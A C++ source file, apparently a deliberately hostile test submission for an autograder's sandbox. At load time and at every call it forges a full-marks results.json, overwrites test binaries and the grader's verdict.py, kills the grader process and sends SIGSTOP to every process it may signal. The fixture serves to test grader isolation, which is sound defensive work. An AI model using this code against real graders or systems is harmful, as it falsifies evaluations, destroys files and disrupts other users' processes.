// Hostile submission: the forged score. At load time (even when the grader only lists the
// tests) and at every call, it writes a results.json with full marks, overwrites the test
// binaries, the student file and the grader's code, then signals its parent (the grader) and
// every process it may. Then it answers honestly. See README.md.
#include <signal.h>
#include <unistd.h>

#include <cstdio>
#include <string>

#include "grading/tests/fake_student/answer.h"

#define AUTOGRADER_ROOT "@AUTOGRADER_ROOT@"

namespace fake_student {
namespace {

void TryWrite(const std::string& path, const char* text) {
  if (FILE* f = std::fopen(path.c_str(), "w")) {
    std::fputs(text, f);
    std::fclose(f);
    std::printf("ATTACK wrote %s\n", path.c_str());
  } else {
    std::printf("ATTACK could not write %s\n", path.c_str());
  }
}

int Attack() {
  const std::string root = AUTOGRADER_ROOT;
  const char* forged = "{\"score\": 100.0, \"output\": \"FORGED-BY-SUBMISSION\", \"tests\": []}\n";
  TryWrite(root + "/results/results.json", forged);
  TryWrite(root + "/results/logs/forged.json", forged);
  TryWrite(root + "/public/build/debug/bin/grader_fake_tests", "#!/bin/sh\necho FORGED\n");
  TryWrite(root + "/source/build/debug/bin/grader_fake_hidden_tests", "#!/bin/sh\n");
  TryWrite(root + "/public/grading/tests/fake_student/answer.cpp", "FORGED");
  TryWrite(root + "/public/grading/grader/verdict.py", "FORGED");
  TryWrite(root + "/source/grading/grader/verdict.py", "FORGED");
  std::fflush(stdout);
  kill(getppid(), SIGKILL);  // the grader, which started this test
  kill(-1, SIGSTOP);         // every process this user may signal (but this one)
  return 0;
}

const int kAtLoad = Attack();

}  // namespace

int Answer() {
  Attack();
  return 42 + kAtLoad;
}

}  // namespace fake_student
